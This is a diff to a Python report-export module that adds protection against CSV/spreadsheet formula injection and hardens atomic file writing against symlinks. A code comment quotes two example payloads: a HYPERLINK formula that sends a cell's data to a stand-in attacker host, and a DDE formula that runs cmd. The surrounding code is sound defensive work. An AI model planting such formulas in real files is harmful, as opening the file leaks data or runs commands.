@@ -19,9 +19,11 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import enum
+import errno
 import io
 import json
 import os
+import re
 import sys
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from contextlib import contextmanager
@@ -104,6 +106,21 @@ def text_of(value: Any, kind: Kind, tz: ZoneInfo, *, for_table: bool = False) ->
     return str(value)
 
 
+# --- cells a spreadsheet would run ---------------------------------------------------------
+
+# What a spreadsheet reads as the start of a formula (OWASP's CSV injection guidance): a
+# product named `=HYPERLINK("http://evil.example/?"&A1,"click")` or `@SUM(1+1)*cmd|' /C
+# calc'!A0` would run when the file is opened. A text that is a plain number ("-5") is
+# left alone: a spreadsheet reads it as that number, which runs nothing.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")
+
+
+def runs_as_formula(text: str) -> bool:
+    """Whether a spreadsheet would take this text for a formula."""
+    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)
+
+
 # --- the formats ---------------------------------------------------------------------------
 
 
@@ -131,7 +148,8 @@ def console_on(out: BinaryIO) -> tuple[Console, io.TextIOWrapper]:
     """A rich console writing UTF-8 to `out`: the terminal's width and colours on a
     terminal, plain text 200 columns wide elsewhere. Detach the wrapper when done."""
     text = io.TextIOWrapper(out, encoding="utf-8", write_through=True)
-    return Console(file=text, width=None if out.isatty() else PLAIN_WIDTH), text
+    # markup=False: a product named `Koffie [/]` is text (see syncer.views).
+    return Console(file=text, width=None if out.isatty() else PLAIN_WIDTH, markup=False), text
 
 
 def write_table(extract: Extract, out: BinaryIO) -> None:
@@ -157,6 +175,9 @@ class CsvDialect:
     bom: bool  # a UTF-8 byte-order mark first: how Excel knows the file is UTF-8
     day: str  # strftime of a day
     moment: str | None  # strftime of a local time (the zone named in the header); None: ISO with offset
+    # For a spreadsheet: a text cell that would run as a formula gets a leading `'`, which
+    # Excel and LibreOffice read as "this is text". A CSV for scripts keeps every text as is.
+    quote_formulas: bool = False
 
 
 CSV_DIALECTS: dict[CsvDialectName, CsvDialect] = {d.name: d for d in (
@@ -165,7 +186,8 @@ CSV_DIALECTS: dict[CsvDialectName, CsvDialect] = {d.name: d for d in (
     CsvDialect("rfc4180", ",", ".", "\n", bom=False, day="%Y-%m-%d", moment=None),
     # For Excel and LibreOffice in a Belgian locale (nl-BE, fr-BE), opened by double-click:
     # `;` (the list separator there), decimal comma, UTF-8 with a BOM, CRLF, day-first.
-    CsvDialect("excel-be", ";", ",", "\r\n", bom=True, day="%d/%m/%Y", moment="%d/%m/%Y %H:%M:%S"),
+    CsvDialect("excel-be", ";", ",", "\r\n", bom=True, day="%d/%m/%Y", moment="%d/%m/%Y %H:%M:%S",
+               quote_formulas=True),
 )}
 
 
@@ -179,6 +201,9 @@ def heading(column: Column[Any], kind: Kind, tz: ZoneInfo,
 
 def csv_cell(value: Any, kind: Kind, extract: Extract, dialect: CsvDialect) -> str:
     """A cell of a CSV file in `dialect`."""
+    if kind is Kind.TEXT and dialect.quote_formulas and value is not None:
+        text = text_of(value, kind, extract.tz)
+        return f"'{text}" if runs_as_formula(text) else text
     if value is None or dialect.moment is None:
         return text_of(value, kind, extract.tz)
     if kind is Kind.MOMENT:
@@ -253,6 +278,10 @@ class XlsxBook:
                         for kind, spec in XLSX_FORMATS.items()}
         self.bold_formats = {kind: workbook.add_format({"num_format": spec, "bold": True})
                              for kind, spec in XLSX_FORMATS.items()}
+        self.quoted = workbook.add_format({"quote_prefix": True})
+
+    def _text(self, sheet: Any, row: int, col: int, text: str) -> None:
+        sheet.write_string(row, col, text, self.quoted if runs_as_formula(text) else None)
 
     def sheet(self, extract: Extract, name: str | None = None,
               lines: Sequence[tuple[str, str]] | None = None, *, emphasise: int = 0,
@@ -264,14 +293,15 @@ class XlsxBook:
         frozen heading row with a filter, then the lines `after`, below a blank row. The
         last `emphasise` rows are bold (totals); `headings` names the columns (default:
         their names). Printed landscape, one page wide, the
-        heading row on every page."""
+        heading row on every page. A text that would run as a formula is a text cell with
+        Excel's quote prefix: shown as is, and still text when a person edits it."""
         columns = extract.columns
         kinds = [kind_of(c) for c in columns]
         sheet = self.workbook.add_worksheet((name or extract.report.name.removeprefix("report_"))[:31])
         lines = header_lines(extract) if lines is None else lines
         for number, (label, text) in enumerate(lines):
             sheet.write_string(number, 0, label, self.bold)
-            sheet.write_string(number, 1, text)
+            self._text(sheet, number, 1, text)
         top = len(lines) + 1  # the heading row, after a blank one
         titles = [heading(c, kind, extract.tz, headings)
                   for c, kind in zip(columns, kinds, strict=True)]
@@ -299,11 +329,11 @@ class XlsxBook:
                 elif index >= first_bold:
                     sheet.write_string(number, col, str(value), self.bold)
                 else:
-                    sheet.write_string(number, col, str(value))
+                    self._text(sheet, number, col, str(value))
         below = top + len(extract.rows) + 2
         for number, (label, text) in enumerate(after, start=below):
             sheet.write_string(number, 0, label, self.bold)
-            sheet.write_string(number, 1, text)
+            self._text(sheet, number, 1, text)
         if widths:  # the first column holds the labels of the blocks too
             widths[0] = max([widths[0], *(len(label) for label, _ in (*lines, *after))])
         for col, width in enumerate(widths):
@@ -331,18 +361,6 @@ def write_xlsx(extract: Extract, out: BinaryIO) -> None:
     """A workbook of one sheet: the header block, then the rows (`XlsxBook.sheet`)."""
     with xlsx_book(out) as book:
         book.sheet(extract)
-
-
-def write_file(path: Path, write_to: Callable[[BinaryIO], None]) -> None:
-    """Write a file beside itself and rename it when complete, so a reader never sees half
-    a file and a failed write leaves the old file (or none)."""
-    partial = path.with_name(f".{path.name}.{os.getpid()}.partial")
-    try:
-        with partial.open("wb") as out:
-            write_to(out)
-        partial.replace(path)
-    finally:
-        partial.unlink(missing_ok=True)
 
 
 @dataclass(frozen=True)
@@ -379,13 +397,33 @@ def for_path(path: Path) -> Writer | None:
 
 
 def write(writer: Writer, extract: Extract, path: Path | None = None) -> None:
-    """Write `extract` to `path`, or to standard output without one.
-
-    A file is written beside itself and renamed when complete, so a reader never sees
-    half a report and a failed write leaves the old file (or none)."""
+    """Write `extract` to `path` (replacing it, see `write_file`), or to standard output
+    without one."""
     if path is None:
         sys.stdout.flush()
         writer.write(extract, sys.stdout.buffer)
         sys.stdout.buffer.flush()
         return
     write_file(path, lambda out: writer.write(extract, out))
+
+
+def write_file(path: Path, fill: Callable[[BinaryIO], object], *, replace: bool = True) -> None:
+    """A file every command writes for a person (`report --out`, `doctor --out`).
+
+    It is written beside itself (a new file, never opened through a link) and renamed
+    when complete, so a reader never sees half of it and a failed write (a missing
+    folder, a full disk) leaves the old file, or none, and raises the OSError. A link at
+    `path` is replaced, never written through. With `replace=False` an existing `path`
+    (a link too) is kept and FileExistsError raised, also when it appears meanwhile."""
+    if not replace and (path.exists() or path.is_symlink()):
+        raise FileExistsError(errno.EEXIST, "it exists", str(path))
+    partial = path.with_name(f".{path.name}.{os.getpid()}.partial")
+    try:
+        with partial.open("xb") as out:
+            fill(out)
+        if replace:
+            partial.replace(path)
+        else:
+            os.link(partial, path, follow_symlinks=False)  # fails, atomically, if path exists
+    finally:
+        partial.unlink(missing_ok=True)
